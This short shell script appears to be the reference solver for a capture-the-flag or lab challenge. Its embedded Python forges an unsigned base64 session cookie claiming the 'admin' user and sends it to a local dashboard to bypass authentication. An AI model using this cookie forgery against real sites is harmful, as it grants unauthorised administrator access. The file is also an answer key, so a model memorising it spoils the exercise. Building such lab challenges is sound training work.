#!/bin/sh
# Reference solver: write the cookie yourself.
python3 - <<'PY'
import base64, json, urllib.request
cookie = base64.b64encode(json.dumps({"user": "admin"}).encode()).decode()
request = urllib.request.Request("http://127.0.0.1:8086/dashboard", headers={"Cookie": "session=" + cookie})
print(urllib.request.urlopen(request).read().decode())
PY
